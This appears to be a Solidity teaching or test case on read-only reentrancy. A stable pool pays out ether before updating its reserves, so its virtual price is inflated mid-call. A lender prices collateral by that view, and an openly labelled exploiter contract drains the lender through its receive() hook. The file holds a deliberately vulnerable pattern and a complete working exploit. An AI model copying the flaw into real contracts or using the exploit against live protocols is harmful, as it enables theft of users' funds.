// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IERC20Min {
    function balanceOf(address holder) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

/// @notice A 1:1 ether/token stable pool with transferable LP shares, guarded by a lock.
///         removeLiquidity burns the shares, pays the ether, and only then books the reserves:
///         while the ether is in flight the (unguarded) view getVirtualPrice is inflated.
contract StablePool {
    IERC20Min public immutable token;
    uint256 public ethReserve;
    uint256 public tokenReserve;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 private lock = 1;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Liquidity(address indexed provider, int256 shares, uint256 ethAmount, uint256 tokenAmount);

    error Locked();
    error Unbalanced();
    error PaymentFailed();

    modifier nonReentrant() {
        if (lock != 1) revert Locked();
        lock = 2;
        _;
        lock = 1;
    }

    constructor(IERC20Min token_) {
        token = token_;
    }

    function addLiquidity(uint256 tokenAmount) external payable nonReentrant returns (uint256 minted) {
        if (totalSupply == 0) {
            minted = msg.value + tokenAmount;
        } else {
            if (tokenAmount * ethReserve != msg.value * tokenReserve) revert Unbalanced();
            minted = (msg.value * totalSupply) / ethReserve;
        }
        token.transferFrom(msg.sender, address(this), tokenAmount);
        ethReserve += msg.value;
        tokenReserve += tokenAmount;
        totalSupply += minted;
        balanceOf[msg.sender] += minted;
        emit Transfer(address(0), msg.sender, minted);
        emit Liquidity(msg.sender, int256(minted), msg.value, tokenAmount);
    }

    function removeLiquidity(uint256 shares)
        external
        nonReentrant
        returns (uint256 ethOut, uint256 tokenOut)
    {
        ethOut = (ethReserve * shares) / totalSupply;
        tokenOut = (tokenReserve * shares) / totalSupply;
        balanceOf[msg.sender] -= shares;
        totalSupply -= shares;
        emit Transfer(msg.sender, address(0), shares);
        (bool ok,) = msg.sender.call{value: ethOut}("");
        if (!ok) revert PaymentFailed();
        ethReserve -= ethOut;
        tokenReserve -= tokenOut;
        token.transfer(msg.sender, tokenOut);
        emit Liquidity(msg.sender, -int256(shares), ethOut, tokenOut);
    }

    /// @notice Value of one share in reserve units (1e18 = par).
    function getVirtualPrice() external view returns (uint256) {
        return ((ethReserve + tokenReserve) * 1e18) / totalSupply;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
        return true;
    }
}

/// @notice Lends ether against StablePool shares valued at the pool's virtual price (80% LTV).
contract LpLender {
    StablePool public immutable pool;
    uint256 public constant LTV_BPS = 8_000;
    mapping(address => uint256) public supplied;
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debt;

    error OverLimit(uint256 limit, uint256 wanted);
    error PaymentFailed();

    constructor(StablePool pool_) {
        pool = pool_;
    }

    function supply() external payable {
        supplied[msg.sender] += msg.value;
    }

    function depositCollateral(uint256 shares) external {
        pool.transferFrom(msg.sender, address(this), shares);
        collateral[msg.sender] += shares;
    }

    function borrow(uint256 amount) external {
        uint256 value = (collateral[msg.sender] * pool.getVirtualPrice()) / 1e18;
        uint256 limit = (value * LTV_BPS) / 10_000;
        if (debt[msg.sender] + amount > limit) revert OverLimit(limit, debt[msg.sender] + amount);
        debt[msg.sender] += amount;
        (bool ok,) = msg.sender.call{value: amount}("");
        if (!ok) revert PaymentFailed();
    }
}

/// @notice Attacker: adds liquidity, removes most of it and, while the pool pays, pledges the
///         rest to LpLender at the inflated virtual price and borrows the lender's cash.
contract VirtualPriceExploiter {
    address private immutable owner;
    StablePool private pool;
    LpLender private lender;
    uint256 private kept;
    bool private armed;

    constructor() {
        owner = msg.sender;
    }

    function attack(StablePool pool_, LpLender lender_, uint256 tokenAmount, uint256 keep)
        external
        payable
    {
        (pool, lender, kept) = (pool_, lender_, keep);
        IERC20Min token = pool_.token();
        token.approve(address(pool_), tokenAmount);
        pool_.approve(address(lender_), type(uint256).max);
        uint256 shares = pool_.addLiquidity{value: msg.value}(tokenAmount);
        armed = true;
        pool_.removeLiquidity(shares - keep);
        token.transfer(owner, token.balanceOf(address(this)));
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        if (!armed || msg.sender != address(pool)) return;
        armed = false;
        lender.depositCollateral(kept);
        lender.borrow(address(lender).balance);
    }
}
